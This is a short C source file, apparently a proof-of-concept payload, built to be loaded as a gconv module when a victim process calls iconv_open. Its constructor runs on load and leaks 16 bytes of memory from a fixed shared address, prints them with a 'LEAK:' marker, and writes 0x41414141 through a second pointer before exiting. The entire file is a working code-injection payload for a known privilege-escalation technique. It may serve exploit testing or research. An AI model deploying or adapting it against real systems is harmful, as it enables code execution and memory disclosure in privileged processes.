/* What libc/conversion_path.c has the victim's iconv_open load: its constructor is the payload. */
#include <unistd.h>

__attribute__((constructor)) static void load(void)
{
    long *shared = (long *)0x10000000;
    char line[22] = "LEAK:";
    for (int i = 0; i < 16; i++)
        line[5 + i] = ((char *)shared[0])[i];
    line[21] = '\n';
    if (write(1, line, 22) == 22)
        *(long *)shared[1] = 0x41414141;
    _exit(77);
}

int gconv_init(void *step)
{
    return !step;
}

int gconv(void)
{
    return 0;
}
